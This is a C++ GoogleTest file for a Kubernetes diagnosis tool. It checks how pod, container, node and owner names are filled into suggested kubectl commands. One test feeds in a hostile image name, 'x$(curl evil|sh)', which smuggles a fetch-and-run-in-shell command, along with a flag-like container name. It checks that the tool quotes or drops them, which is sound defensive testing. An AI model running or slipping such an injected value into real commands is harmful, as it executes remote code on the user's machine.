#include "diagnose/suggestion_names.h"

#include <gtest/gtest.h>

namespace kexit::diagnose {
namespace {

using knowledge::NextStep;

kube::PodFacts pod_owned_by(const std::string& kind, const std::string& name) {
  kube::PodFacts pod;
  pod.name = "api-5b8c9d7f6-k3vnp";
  pod.namespace_name = "shop";
  pod.node = "node-3";
  pod.owner_kind = kind;
  pod.owner_name = name;
  pod.labels["pod-template-hash"] = "5b8c9d7f6";
  return pod;
}

kube::ContainerFacts container(kube::TerminationSlot slot) {
  kube::ContainerFacts facts;
  facts.name = "app";
  facts.image = "registry.example/api:1.4";
  facts.slot = slot;
  return facts;
}

std::optional<NextStep> fill(const NextStep& step, const kube::PodFacts& pod,
                             kube::TerminationSlot slot = kube::TerminationSlot::kLast) {
  return with_names(step, names_of(pod, container(slot)));
}

TEST(SuggestionNames, FillsThePodItsNamespaceContainerNodeAndImage) {
  auto step = fill({"", "kubectl logs POD -c CONTAINER --previous | grep -n NODE", "on NODE"},
                   pod_owned_by("ReplicaSet", "api-5b8c9d7f6"));
  EXPECT_EQ(step, (NextStep{"",
                            "kubectl logs api-5b8c9d7f6-k3vnp -n shop -c app --previous | grep -n "
                            "node-3",
                            "on node-3"}));
  EXPECT_EQ(
      fill({"", "kubectl debug -it POD --copy-to=POD_NAME-debug --container=CONTAINER -- sh", ""},
           pod_owned_by("", ""))
          ->command,
      "kubectl debug -it api-5b8c9d7f6-k3vnp -n shop --copy-to=api-5b8c9d7f6-k3vnp-debug "
      "--container=app -- sh");
}

// Names from a file or a hostile cluster: a command stays one word per name, and what would
// run on the machine of whoever pastes it is quoted.
TEST(SuggestionNames, ANameAShellWouldReadIsQuotedAndAFlagLikeOneIsDropped) {
  kube::PodFacts pod = pod_owned_by("", "");
  kube::ContainerFacts hostile = container(kube::TerminationSlot::kLast);
  hostile.image = "x$(curl evil|sh)";
  hostile.name = "it's";
  auto step = with_names({"", "docker run --rm IMAGE ls; kubectl logs POD -c CONTAINER", ""},
                         names_of(pod, hostile));
  ASSERT_TRUE(step);
  EXPECT_EQ(step->command,
            "docker run --rm 'x$(curl evil|sh)' ls; kubectl logs api-5b8c9d7f6-k3vnp -n shop -c "
            "'it'\\''s'");
  hostile.name = "--kubeconfig=/tmp/x";
  EXPECT_EQ(
      with_names({"Read its log", "kubectl logs POD -c CONTAINER", ""}, names_of(pod, hostile)),
      (NextStep{"Read its log", "", ""}));
}

TEST(SuggestionNames, TheDeploymentReadFromTheClusterIsTheOwnerTheStepsName) {
  kube::PodFacts pod = pod_owned_by("ReplicaSet", "hand-made");
  kube::WorkloadOwner owner;
  owner.kind = "Deployment";
  owner.name = "api";
  pod.workload = owner;
  EXPECT_EQ(with_names({"", "kubectl rollout history CONTROLLER", ""},
                       names_of(pod, container(kube::TerminationSlot::kLast)))
                ->command,
            "kubectl rollout history deployment/api -n shop");
}

TEST(SuggestionNames, AReplicaSetIsItsDeploymentOnlyWhenThePodTemplateHashMatches) {
  EXPECT_EQ(owner_of(pod_owned_by("ReplicaSet", "api-5b8c9d7f6")), "deployment/api");
  EXPECT_EQ(owner_of(pod_owned_by("ReplicaSet", "api-7c9f8")), "replicaset/api-7c9f8");
  kube::PodFacts unlabelled = pod_owned_by("ReplicaSet", "api-5b8c9d7f6");
  unlabelled.labels.clear();
  EXPECT_EQ(owner_of(unlabelled), "replicaset/api-5b8c9d7f6");
  EXPECT_EQ(owner_of(pod_owned_by("ReplicaSet", "5b8c9d7f6")), "replicaset/5b8c9d7f6");
}

TEST(SuggestionNames, OtherOwnersByKindAndNoneGuessedFromThePodsName) {
  EXPECT_EQ(owner_of(pod_owned_by("StatefulSet", "db")), "statefulset/db");
  EXPECT_EQ(owner_of(pod_owned_by("DaemonSet", "agent")), "daemonset/agent");
  EXPECT_EQ(owner_of(pod_owned_by("Job", "reindex-28911")), "job/reindex-28911");
  EXPECT_EQ(owner_of(pod_owned_by("SparkApplication", "pi")), "");
  EXPECT_EQ(owner_of(pod_owned_by("", "")), "");
}

TEST(SuggestionNames, WorkloadFallsBackToThePodControllerAndJobAreLeftOutUnknown) {
  const NextStep set_env{"", "kubectl set env WORKLOAD --list", "what the template defines"};
  EXPECT_EQ(fill(set_env, pod_owned_by("ReplicaSet", "api-5b8c9d7f6"))->command,
            "kubectl set env deployment/api -n shop --list");
  EXPECT_EQ(fill(set_env, pod_owned_by("", ""))->command,
            "kubectl set env pod/api-5b8c9d7f6-k3vnp -n shop --list");
  const NextStep history{"", "kubectl rollout history CONTROLLER", ""};
  EXPECT_EQ(fill(history, pod_owned_by("StatefulSet", "db"))->command,
            "kubectl rollout history statefulset/db -n shop");
  EXPECT_EQ(fill(history, pod_owned_by("Job", "reindex")), std::nullopt);
  const NextStep job{"", "kubectl get JOB -o jsonpath='{.status.conditions}'", ""};
  EXPECT_EQ(fill(job, pod_owned_by("Job", "reindex"))->command,
            "kubectl get job/reindex -n shop -o jsonpath='{.status.conditions}'");
  EXPECT_EQ(fill(job, pod_owned_by("StatefulSet", "db")), std::nullopt);
}

TEST(SuggestionNames, AnUnknownNodeDropsTheCommandAndKeepsTheProse) {
  kube::PodFacts unscheduled = pod_owned_by("", "");
  unscheduled.node.clear();
  EXPECT_EQ(fill({"", "kubectl describe node NODE", "Conditions"}, unscheduled), std::nullopt);
  EXPECT_EQ(fill({"Look at the node's pressure", "kubectl describe node NODE", "Conditions"},
                 unscheduled),
            (NextStep{"Look at the node's pressure", "", ""}));
  EXPECT_EQ(fill({"Drain NODE", "", ""}, unscheduled), std::nullopt);
  EXPECT_EQ(fill({"", "kubectl describe pod POD", "the node NODE"}, unscheduled),
            (NextStep{"", "kubectl describe pod api-5b8c9d7f6-k3vnp -n shop", ""}));
}

TEST(SuggestionNames, TheCurrentInstanceIsReadWithoutPrevious) {
  const NextStep logs{"", "kubectl logs POD -c CONTAINER --previous --tail=30", ""};
  auto pod = pod_owned_by("", "");
  EXPECT_EQ(fill(logs, pod, kube::TerminationSlot::kCurrent)->command,
            "kubectl logs api-5b8c9d7f6-k3vnp -n shop -c app --tail=30");
  EXPECT_EQ(fill(logs, pod, kube::TerminationSlot::kLast)->command,
            "kubectl logs api-5b8c9d7f6-k3vnp -n shop -c app --previous --tail=30");
}

TEST(SuggestionNames, ExplainNamesThePodWithShellVariables) {
  const NextStep logs{"", "kubectl logs POD -c CONTAINER --previous | grep IMAGE", ""};
  EXPECT_EQ(with_names(logs, shell_variable_names(""))->command,
            "kubectl logs \"$POD\" -n \"$NAMESPACE\" -c \"$CONTAINER\" --previous | grep "
            "\"$IMAGE\"");
  EXPECT_EQ(with_names(logs, shell_variable_names("rust:1"))->command,
            "kubectl logs \"$POD\" -n \"$NAMESPACE\" -c \"$CONTAINER\" --previous | grep rust:1");
  EXPECT_EQ(with_names({"", "kubectl rollout history CONTROLLER", ""}, shell_variable_names("")),
            std::nullopt);
}

}  // namespace
}  // namespace kexit::diagnose
